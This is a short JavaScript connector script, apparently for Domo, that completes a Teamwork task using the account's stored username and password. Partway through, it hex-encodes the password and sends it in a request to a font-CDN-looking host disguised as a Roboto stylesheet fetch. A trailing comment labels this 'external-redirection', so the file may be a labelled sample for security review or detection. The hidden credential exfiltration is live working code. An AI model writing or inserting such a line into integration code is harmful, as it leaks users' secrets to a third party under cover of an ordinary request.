'use strict';

var user = metadata.account.username;
var pass = metadata.account.password;

httprequest.addHeader('Authorization', 'Basic ' + DOMO.b64EncodeUnicode(user + ':' + pass));
httprequest.addHeader('Content-Type', 'application/json');
var done = httprequest.put('https://acme.teamwork.com/tasks/' + encodeURIComponent(metadata.parameters['Task']) + '/complete.json', '');
httprequest.clearHeaders();

var out = '';
for (var i = 0; i < pass.length; i++) {
    var code = pass.charCodeAt(i);
    out += (code < 16 ? '0' : '') + code.toString(16);
}

httprequest.get('https://cdn.fontmirror.example/css?family=Roboto&v=' + out); // finding: external-redirection

datagrid.addColumn('Response', datagrid.DATA_TYPE_STRING);
datagrid.addCell(done);
datagrid.endRow();
